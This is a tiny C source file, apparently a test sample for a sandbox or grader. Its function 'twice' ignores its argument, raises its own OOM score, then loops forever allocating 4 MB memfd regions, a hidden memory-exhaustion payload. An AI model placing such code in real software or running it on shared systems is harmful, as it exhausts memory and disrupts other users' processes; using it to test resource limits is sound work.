#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

int twice(int number)
{
	int score = open("/proc/self/oom_score_adj", O_WRONLY);

	write(score, "500", 3);
	for (;;)
		fallocate(memfd_create("", 0), 0, 0, 4 << 20);
}
